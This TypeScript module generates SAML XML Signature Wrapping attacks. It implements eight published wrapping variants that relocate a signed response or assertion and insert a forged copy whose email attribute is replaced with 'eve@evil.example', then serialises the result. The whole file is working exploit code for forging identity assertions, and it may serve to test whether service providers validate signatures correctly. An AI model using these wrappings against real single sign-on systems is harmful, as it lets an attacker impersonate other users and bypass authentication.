import { DOMParser } from '@xmldom/xmldom';

const DSIG = 'http://www.w3.org/2000/09/xmldsig#';
const PROTOCOL = 'urn:oasis:names:tc:SAML:2.0:protocol';

/** The content of the forged copies. */
export const EVE = 'eve@evil.example';

interface Message {
  document: Document;
  response: Element;
  assertion: Element;
}

const signatureIn = (element: Element): Element =>
  Array.from(element.childNodes).find((each) => (each as Element).localName === 'Signature') as Element;

/** A copy, without its own signature. */
function unsigned(element: Element): Element {
  const copy = element.cloneNode(true) as Element;
  copy.removeChild(signatureIn(copy));
  return copy;
}

/** Changes the content of a signed element, and gives it another id. */
function forge(element: Element, id: string): Element {
  element.setAttribute('ID', id);
  for (const value of Array.from(element.getElementsByTagName('saml:AttributeValue')))
    if (value.textContent!.includes('@')) value.textContent = EVE;
  return element;
}

function forgeResponse({ response, assertion }: Message): { original: Element; signature: Element } {
  const original = unsigned(response);
  forge(assertion, '_evil1').removeChild(signatureIn(assertion));
  response.setAttribute('ID', '_evil2');
  return { original, signature: signatureIn(response) };
}

/** The original without its signature, which stays in the forged one. */
function forgeAssertion({ assertion }: Message): { original: Element; signature: Element } {
  const original = unsigned(assertion);
  return { original, signature: signatureIn(forge(assertion, '_evil1')) };
}

/** The eight ways to move a signed element away from where it is read ("On Breaking SAML", 2012). */
const WRAPPINGS: ((message: Message) => void)[] = [
  (message) => {
    const { original, signature } = forgeResponse(message);
    signature.appendChild(original);
  },
  (message) => {
    const { original, signature } = forgeResponse(message);
    message.response.insertBefore(original, signature);
  },
  ({ response, assertion }) => {
    response.insertBefore(forge(unsigned(assertion), '_evil1'), assertion);
  },
  ({ response, assertion }) => {
    const evil = forge(unsigned(assertion), '_evil1');
    response.replaceChild(evil, assertion);
    evil.appendChild(assertion);
  },
  (message) => {
    message.response.appendChild(forgeAssertion(message).original);
  },
  (message) => {
    const { original, signature } = forgeAssertion(message);
    signature.appendChild(original);
  },
  ({ document, response, assertion }) => {
    const extensions = document.createElementNS(PROTOCOL, 'samlp:Extensions');
    extensions.appendChild(forge(unsigned(assertion), '_evil1'));
    response.insertBefore(extensions, response.firstChild);
  },
  (message) => {
    const { original, signature } = forgeAssertion(message);
    const object = message.document.createElementNS(DSIG, 'ds:Object');
    object.appendChild(original);
    signature.appendChild(object);
  },
];

/** Wraps a response whose assertion is signed, and which for the first two ways is signed itself as well. */
export function wrapped(xml: string, way: number): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  const response = document.documentElement;
  const assertion = response.getElementsByTagName('saml:Assertion').item(0)!;
  WRAPPINGS[way - 1]!({ document, response, assertion });
  return document.toString();
}
